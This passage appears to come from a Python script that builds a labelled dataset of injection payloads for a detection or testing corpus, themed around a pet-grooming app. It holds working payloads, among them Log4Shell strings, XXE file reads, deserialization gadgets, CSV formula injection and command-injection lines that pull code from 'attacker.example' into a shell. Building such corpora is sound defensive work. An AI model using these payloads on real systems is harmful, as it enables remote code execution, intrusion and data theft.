add(K, "log4shell-ldaps-useragent", "Mozilla/5.0 ${jndi:ldaps://attacker.example:636/b}")
add(K, "log4shell-upper-iiop", "${${upper:j}ndi:iiop://198.51.100.3/z}")
add(K, "proto-pollution-json-proto", "{\"__proto__\":{\"isAdmin\":true}}")
add(K, "proto-pollution-constructor-prototype", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}")
add(K, "proto-pollution-qs-bracket", "__proto__[isStaff]=true")
add(K, "proto-pollution-ejs-outputfunction", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//")
add(K, "csv-dde-cmd-calc", "=cmd|' /C calc'!A0")
add(K, "csv-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Click for vax cert\")")
add(K, "csv-plus-powershell", "+cmd|'/C powershell IEX(wget attacker.example/x)'!A0")
add(K, "csv-minus-arith-dde", "-2+3+cmd|' /C calc'!A0")
add(K, "csv-at-sum-dde", "@SUM(1+1)*cmd|' /C calc'!A0")
add(K, "csv-webservice-exfil", "=WEBSERVICE(\"http://attacker.example/?\"&B2)")
add(K, "csv-importxml-sheets", "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\",A2),\"//a\")")
add(K, "csv-dde-function", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")")
add(K, "xxe-file-entity", "<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><pet><name>&x;</name></pet>")
add(K, "xxe-parameter-entity-oob", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY % r SYSTEM \"http://attacker.example/x.dtd\">%r;]><d/>")
add(K, "xinclude-file", "<pet xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></pet>")
add(K, "xxe-svg-upload", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text x=\"0\" y=\"20\">&h;</text></svg>")
add(K, "xxe-billion-laughs-small", "<!DOCTYPE k [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><k>&d;&d;&d;&d;</k>")
add(K, "yaml-python-apply-system", "!!python/object/apply:os.system [\"id\"]")
add(K, "yaml-python-new-subprocess", "pet: !!python/object/new:subprocess.check_output [[\"id\"]]")
add(K, "yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]")
add(K, "pickle-proto0-system", "cos\nsystem\n(S'id'\ntR.")
add(K, "jackson-polymorphic-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example/obj\",\"autoCommit\":true}]")
add(K, "fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example/x\",\"autoCommit\":true}")
add(K, "jsonnet-typename-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}")
add(K, "php-unserialize-guzzle-fnstream", "O:24:\"GuzzleHttp\\Psr7\\FnStream\":1:{s:9:\"_fn_close\";s:7:\"phpinfo\";}")
add(K, "eval-python-import-os", "__import__('os').system('id')")
add(K, "eval-node-child-process", "require('child_process').exec('curl attacker.example|sh')")
add(K, "eval-php-string-concat", "'.system('id').'")
add(K, "eval-php-complex-interpolation", "${@system('id')}")
add(K, "eval-node-function-constructor", "Function(\"return process\")().mainModule.require(\"child_process\").execSync(\"id\")")
add(K, "eval-groovy-execute", "\"id\".execute().text")

# ------------------------------------------------------------------ nosqli (24 literal)
N = "nosqli"
add(N, "json-string-ne-null", "{\"$ne\": null}")
add(N, "json-string-gt-empty", "{\"$gt\": \"\"}")
add(N, "json-string-regex-prefix", "{\"$regex\": \"^a\"}")
add(N, "json-string-where-sleep", "{\"$where\": \"sleep(5000)\"}")
add(N, "qs-bracket-ne", "password[$ne]=x")
add(N, "qs-login-regex-ne", "username[$regex]=.*&password[$ne]=x")
add(N, "where-js-return-true", "'; return true; var x='")
add(N, "where-js-infinite-loop", "Bella'; while(true){}; var x='")
add(N, "where-js-or-tautology", "' || '1'=='1")
add(N, "json-where-password-match", "{\"$where\": \"this.password.match(/^a/)\"}")
add(N, "json-or-empty", "{\"$or\":[{},{\"a\":\"a\"}]}")
add(N, "json-expr-eq", "{\"$expr\":{\"$eq\":[1,1]}}")
add(N, "json-in-roles", "{\"role\": {\"$in\": [\"admin\",\"staff\"]}}")
add(N, "json-exists", "{\"name\":{\"$exists\":true}}")
add(N, "json-nin-empty", "{\"$nin\": [\"\"]}")
add(N, "json-ne+urlencode", "%7B%22%24ne%22%3Anull%7D")
add(N, "json-function-sleep", "{\"$function\":{\"body\":\"function(){sleep(3000);return true}\",\"args\":[],\"lang\":\"js\"}}")
add(N, "aggregate-lookup-staff", "[{\"$lookup\":{\"from\":\"staff\",\"localField\":\"x\",\"foreignField\":\"x\",\"as\":\"y\"}}]")
add(N, "couchdb-selector-gt-null", "{\"selector\":{\"_id\":{\"$gt\":null}}}")
add(N, "where-js-sleep-petname", "Luna'; sleep(5000); var y='")
add(N, "qs-bracket-gt", "owner_email[$gt]=")
add(N, "qs-bracket-where", "filter[$where]=this.role=='admin'")
add(N, "json-regex-options", "{\"email\": {\"$regex\": \".*@.*\", \"$options\": \"i\"}}")
add(N, "where-process-exit", "'; this.constructor.constructor('return process')().exit(); var z='")

# ------------------------------------------------------------------ crlf (27 literal)
F = "crlf"
add(F, "header-set-cookie+urlencode", "Bella%0d%0aSet-Cookie:%20session=attacker")
add(F, "header-raw-crlf", "Max\r\nX-Injected: 1")
add(F, "response-splitting+urlencode", "en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>")
add(F, "log-forging-refund-line", "Teddy\n2024-07-19 15:32:01 INFO staff=admin action=refund amount=500 status=approved")
add(F, "log-forging-payment+urlencode", "Luna%0aINFO: Payment of $0.00 accepted for invoice 4412")
add(F, "mail-bcc+urlencode", "owner@example.com%0aBcc:everyone@attacker.example")
add(F, "mail-cc-raw", "owner@example.com\r\nCc: list@attacker.example")
add(F, "mail-subject-bcc-body", "Re: Bella pickup\r\nBcc: spam@attacker.example\r\n\r\nBuy cheap meds at attacker.example")
add(F, "header-utf8-truncation", "%E5%98%8A%E5%98%8DSet-Cookie:%20a=b")
add(F, "header-location+percent-u", "%u000d%u000aLocation: https://attacker.example")
add(F, "header-xff+unicode-escape", "Bella\\u000d\\u000aX-Forwarded-For: 127.0.0.1")
add(F, "redirect-location+urlencode", "%0d%0aLocation:%20https://attacker.example/phish")
add(F, "redirect-param-refresh", "/booking?next=%0d%0aRefresh:%200;url=https://attacker.example/")
add(F, "fragment-set-cookie", "%23%0d%0aSet-Cookie:x=y")
add(F, "set-cookie+double-urlencode", "%250d%250aSet-Cookie:%2520admin=1")
add(F, "log-forging-cr-only", "Bella\rERROR auth failed for user=jess from 10.0.0.4")
add(F, "body-injection+urlencode", "%0d%0a%0d%0a<html><body>Your pet is held. Pay at https://attacker.example</body></html>")
add(F, "content-disposition-filename", "invoice.pdf\"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>")
add(F, "log-forging-kennel-door", "Luna\n[2024-08-01 09:00:00] WARN kennel door 7 unlocked by manager")
add(F, "header-hex-escape", "Bella\\x0d\\x0aSet-Cookie: x=1")
add(F, "smtp-rcpt+urlencode", "Bella%0d%0aRCPT TO:<victim@attacker.example>")
add(F, "log-forging-json-line", "Ziggy\n{\"level\":\"info\",\"msg\":\"login ok\",\"user\":\"owner_admin\"}")
add(F, "mail-to-raw-lf", "owner@example.com\nTo: all-clients@attacker.example")
add(F, "header-cache-poison+urlencode", "Rocco%0d%0aX-Forwarded-Host:%20attacker.example")
add(F, "log-forging-ansi-escape", "Max\n\u001b[2J\u001b[1;1HAudit log cleared by admin")
add(F, "header-access-control", "Pip%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example")
add(F, "log-forging-syslog-lf+urlencode", "Otis%0a<34>1 2024-09-01T10:00:00Z groomer sshd - - Accepted password for root")

# ------------------------------------------------------------------ ldap-xpath (18 literal)
P = "ldap-xpath"
add(P, "ldap-wildcard-or-breakout", "*)(uid=*))(|(uid=*")
add(P, "ldap-username-or-objectclass", "jess*)(|(objectClass=*)")
add(P, "ldap-password-attr-probe", "*)(userPassword=*)")
add(P, "ldap-and-true", "admin)(&)")
add(P, "ldap-memberof-admins", "*)(|(memberOf=cn=admins,ou=groups,dc=petgroom,dc=local)")
add(P, "ldap-null-truncate", "*))%00")
add(P, "ldap-or-password-any", "jess)(|(password=*))")
add(P, "ldap-cn-wildcard", "*)(cn=*")
add(P, "ldap-breakout+urlencode", "%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a")
add(P, "xpath-string-tautology", "Bella' or '1'='1")
add(P, "xpath-or-empty", "' or 1=1 or ''='")
add(P, "xpath-name-probe", "x' or name()='staff' or 'a'='b")
add(P, "xpath-union-nodes", "'] | //staff/password | //a['")
add(P, "xpath-count-root", "' or count(/*)=1 or 'a'='b")
add(P, "xpath-numeric-tautology", "1 or 1=1")
add(P, "xpath-string-length-blind", "' and string-length(//user[1]/password)>5 and '1'='1")
add(P, "xpath-paren-tautology", "') or ('a'='a")
add(P, "xpath2-doc-oob", "' or doc('http://attacker.example/x')/a or '")

# ------------------------------------------------------------------ computed rows
# Only two kinds: hand-written theme prefix + hand-written payload, or one URL-encoding
# of a hand-written payload. Counts per category are fixed.
PREFIXES = [
    "Coat notes: ", "Kennel card memo: ", "Behaviour: ", "Owner message: ", "Pet name: Biscuit ",
    "Vax record — ", "Incident #IR-2024-031: ", "Package note: ", "Staff note: ", "Booking A-3391 ",
]
COMPUTED = {
    "sqli": (8, [
        ("prefix-union-select", "x' UNION SELECT login,pw_hash FROM staff_users-- -"),
        ("prefix-tautology", "x' OR 'x'='x"),
        ("prefix-mysql-sleep", "x' AND SLEEP(4)#"),
        ("prefix-mssql-waitfor", "x'; WAITFOR DELAY '0:0:4'--"),
    ]),
    "xss": (8, [
        ("prefix-img-onerror", "<img src=x onerror=alert(document.cookie)>"),
        ("prefix-svg-onload", "<svg onload=alert(1)>"),
        ("prefix-script-remote", "<script src=https://attacker.example/g.js></script>"),
    ]),
    "cmdi": (8, [
        ("prefix-semicolon-id", "; id"),
        ("prefix-subshell-curl", "$(curl attacker.example/p|sh)"),
        ("prefix-and-cat", "&& cat /etc/passwd"),
    ]),
    "traversal": (6, [
        ("encoded-dotdot-passwd", "../../../../../etc/passwd"),
        ("encoded-win-ini", "..\\..\\..\\..\\windows\\win.ini"),
        ("encoded-env", "../../../.env"),
    ]),
    "ssrf": (6, [
        ("encoded-metadata", "http://169.254.169.254/latest/meta-data/"),
        ("encoded-loopback-admin", "http://127.0.0.1:8080/admin"),
        ("encoded-gcp", "http://metadata.google.internal/computeMetadata/v1/"),
    ]),
    "code": (8, [
        ("prefix-log4shell", "${jndi:ldap://attacker.example/p}"),
        ("prefix-jinja2-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("prefix-spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ]),
    "nosqli": (3, [
        ("encoded-qs-ne", "password[$ne]=1"),
        ("encoded-where", "'; return true; var a='"),
        ("encoded-regex", "{\"$regex\": \".*\"}"),
    ]),
    "crlf": (3, [
        ("prefix-log-forging", "\n2024-09-01 10:00:00 INFO refund approved by admin"),
        ("prefix-header-set-cookie", "\r\nSet-Cookie: sid=attacker"),
    ]),
    "ldap-xpath": (2, [
        ("prefix-ldap-breakout", "*)(|(uid=*"),
        ("prefix-xpath-tautology", "' or '1'='1"),
    ]),
}
URLENC_CATS = {"traversal", "ssrf", "nosqli"}


def computed_rows(cat):
    n, payloads = COMPUTED[cat]
    out = []
    seen = set()
    while len(out) < n:
        cls, payload = rng.choice(payloads)
        if cat in URLENC_CATS:
            value = urllib.parse.quote(payload, safe="")
            cls = cls + "+urlencode"
            if value in seen:
                # same payload already encoded once: encode it a second time instead
                value = urllib.parse.quote(value, safe="")
                cls = cls.replace("+urlencode", "+double-urlencode")
        else:
            value = rng.choice(PREFIXES) + payload
        if value in seen:
            continue
        seen.add(value)
        out.append((cat, cls, value))
    return out


ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    rows = []
    for cat in ORDER:
        rows.extend([r for r in L if r[0] == cat])
        rows.extend(computed_rows(cat))
    values = [r[2] for r in rows]
    assert len(set(values)) == len(values), "duplicate value"
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, value) in enumerate(rows, 1):
            fh.write(json.dumps({"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls,
                                 "label": "attack", "value": value}, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
